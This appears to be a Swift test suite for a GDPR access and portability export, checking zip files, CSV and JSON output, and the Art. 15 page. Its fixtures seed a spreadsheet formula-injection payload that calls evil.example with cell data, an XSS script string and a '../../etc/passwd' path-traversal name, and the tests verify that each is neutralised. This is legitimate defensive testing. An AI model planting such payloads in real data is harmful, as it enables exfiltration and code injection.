import Foundation
import RegistreCore
import Testing
import ZIPFoundation
@testable import RegistreConnectors

/// What a person receives for an access or a portability request, on the shop fixture in SQLite
/// and PostgreSQL: the zip's files, their contents, and the Art. 15 page.
@Suite struct SubjectExportTests {
    /// A gift message a spreadsheet would run as a formula, and a support message holding markup.
    static let setup = [
        #"UPDATE order_line SET gift_message = '=HYPERLINK("http://evil.example/?"&A1)' WHERE order_id = 101 AND line_no = 1;"#,
        "UPDATE ticket_message SET body = '<script>alert(1)</script>, \"quoted\"' WHERE ticket_id = 702 AND message_no = 1;",
    ]

    /// Finds `identity` in a fresh shop in `backend` and writes the export of `kind` into a
    /// temporary folder, then runs `body` on the summary and the zip's entries by name.
    /// With `memory`, the export writes no loose files and keeps each file in memory up to that
    /// many bytes; the folder then holds the zip alone.
    static func export(
        _ kind: SubjectExport.Kind, _ backend: Backend, identity: String = "email=jeanne.dupont@exemple.fr",
        keeping: SubjectFinder.Keeping = .links, memory: Int? = nil, _ body: (SubjectExport.Summary, [String: String]) throws -> Void
    ) async throws {
        let folder = try SubjectFinderTests.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: folder) }
        let policy = try EraserTests.policy()
        let summary = try await ShopFixtureTests.withShop(backend, setup: setup) { dataset, connector in
            let found = try await SubjectFinder(dataset: dataset, connector: connector).find([Identity(argument: identity)], keeping: keeping)
            let page = kind == .access ? { (report: AccessReport) in AccessReportRenderer(policy: policy).html(report, language: "en") } : nil
            var export = SubjectExport(kind: kind, dataset: dataset)
            if let memory { export.memoryPerFile = memory }
            return try await export.write(
                found, policy: policy, reading: connector, to: folder.appendingPathComponent("out"), page: page, writesLooseFiles: memory == nil)
        }
        let left = try FileManager.default.contentsOfDirectory(atPath: folder.appendingPathComponent("out").path)
        #expect(memory == nil ? left.count == summary.files.count + 1 : left == ["\(kind.rawValue).zip"], "\(left)")
        try body(summary, try entries(of: summary.archive))
    }

    /// Every file of a zip, as text.
    static func entries(of url: URL) throws -> [String: String] {
        let archive = try Archive(url: url, accessMode: .read)
        var files: [String: String] = [:]
        for entry in archive {
            var data = Data()
            _ = try archive.extract(entry) { data.append($0) }
            files[entry.path] = String(decoding: data, as: UTF8.self)
        }
        return files
    }

    @Test(arguments: Backend.allCases) func accessGivesEveryPersonalRowAsJSONAndCSVWithThePage(backend: Backend) async throws {
        try await Self.export(.access, backend) { summary, files in
            #expect(summary.rows["customer"] == 1 && summary.rows["order_line"] == 3 && summary.rows["referral"] == 2)
            #expect(summary.rows["product"] == nil && summary.left["product"]?.contains("no personal data") == true)
            #expect(Set(files.keys) == Set(summary.files) && summary.files.first == "index.html")
            #expect(Set(files.keys).isSuperset(of: ["customer.json", "customer.csv", "newsletter_subscription.json", "login.csv"]))

            let customers = try JSONSerialization.jsonObject(with: Data(try #require(files["customer.json"]).utf8)) as? [[String: Any]]
            #expect(customers?.first?["email"] as? String == "Jeanne.Dupont@Exemple.fr")
            #expect(customers?.first?["id"] as? Int == 1, "numbers stay numbers")
            #expect(customers?.first?.keys.contains("password_hash") == false, "a credential is not copied")
            #expect(summary.withheld == ["customer": ["password_hash"]])

            let csv = try #require(files["order_line.csv"])
            #expect(csv.hasPrefix("order_id,line_no,product_id,quantity,unit_price,gift_message\r\n"))
            #expect(csv.contains(#",2,8.9"#) || csv.contains(#",2,8.90,"#), "PostgreSQL's numeric keeps its scale")
            #expect(csv.contains(#","'=HYPERLINK(""http://evil.example/?""&A1)"\#r\#n"#), "a formula is disarmed: \(csv)")
            let messages = try #require(files["ticket_message.csv"])
            #expect(messages.contains(#""<script>alert(1)</script>, ""quoted"""#))

            let page = try #require(files["index.html"])
            #expect(page.contains("&lt;script&gt;alert(1)&lt;/script&gt;") && !page.contains("<script>alert"), "database values are escaped")
            #expect(page.contains("Not copied: password_hash"))
            // The activities the person's collections serve, with what Art. 15(1) asks about them.
            for activity in ["Customer accounts", "Accounting", "Security logs", "Newsletter"] { #expect(page.contains(activity), "\(activity)") }
            #expect(page.contains("Code de commerce, art. L123-22"), "the legal obligation behind accounting")
            #expect(!page.contains("<h3>Statistics</h3>"), "no collection of hers serves statistics")
            #expect(page.contains("CNIL") && page.contains("<strong>Erasure</strong>"))
        }
    }

    @Test(arguments: Backend.allCases) func portabilityGivesOnlyWhatThePersonProvidedUnderConsentOrContract(backend: Backend) async throws {
        try await Self.export(.portability, backend) { summary, files in
            #expect(files["index.html"] == nil)
            let customer = try #require(files["customer.csv"])
            #expect(customer.hasPrefix("email,phone,first_name,last_name,birth_date\r\n"), "\(customer)")
            #expect(!customer.contains("C-000042"), "the customer number was not typed by her")
            #expect(summary.left["login"]?.contains("registre.provided") == true)
            #expect(summary.rows["order_line"] == 2, "the two lines with a gift message, not the third")
            #expect(summary.rows["customer_order"] == nil && summary.rows["login"] == nil)
        }
    }

    /// Rows read again by key, a batch at a time, give the very files rows kept whole give.
    @Test(arguments: Backend.allCases) func rowsReadAgainByKeyGiveTheSameFilesAsRowsKeptWhole(backend: Backend) async throws {
        for kind in [SubjectExport.Kind.access, .portability] {
            var whole: [String: String] = [:]
            try await Self.export(kind, backend, keeping: .rows) { summary, files in
                whole = files
                #expect(summary.queries == 0, "nothing to read again")
            }
            try await Self.export(kind, backend, keeping: .links) { summary, files in
                #expect(files == whole && summary.queries == 0, "a small export keeps its rows whole")
            }
            // A collection beyond one row is kept as keys (the first row too), and read again.
            try await Self.export(kind, backend, keeping: .keys(beyond: 1)) { summary, files in
                #expect(files == whole)
                #expect(summary.queries > 0, "the rows were read again by key")
            }
        }
    }

    /// The server's exports, without loose files: from memory, or from a hidden folder for files
    /// beyond the memory allowed (here 200 bytes), the same zip, and nothing else left behind.
    @Test(arguments: Backend.allCases) func exportsWithoutLooseFilesGiveTheSameZip(backend: Backend) async throws {
        for kind in [SubjectExport.Kind.access, .portability] {
            var loose: [String: String] = [:]
            try await Self.export(kind, backend) { _, files in loose = files }
            for memory in [1 << 20, 200, 0] {
                try await Self.export(kind, backend, memory: memory) { summary, files in
                    #expect(files.keys.sorted() == loose.keys.sorted() && Set(summary.files) == Set(files.keys))
                    for (name, text) in files where name != "index.html" { #expect(text == loose[name], "\(name) with \(memory) bytes in memory") }
                    #expect(files["index.html"] == loose["index.html"] || kind == .portability)
                }
            }
        }
    }

    @Test(arguments: Backend.allCases) func someoneWithNoDataGetsAPageSayingSo(backend: Backend) async throws {
        try await Self.export(.access, backend, identity: "email=nobody@exemple.fr") { summary, files in
            #expect(summary.rows.isEmpty && summary.left.isEmpty)
            #expect(Array(files.keys) == ["index.html"])
            #expect(files["index.html"]?.contains("We found no personal data about you.") == true)
        }
    }

    @Test func fileNamesStayInsideTheExportFolder() {
        #expect(SubjectExport.fileName("customer_order", "csv") == "customer_order.csv")
        #expect(SubjectExport.fileName("../../etc/passwd", "json") == "_._.._etc_passwd.json")
        #expect(SubjectExport.fileName("commandes clients é", "csv") == "commandes_clients__.csv")
        #expect(SubjectExport.fileName("", "csv") == "_.csv")
    }
}
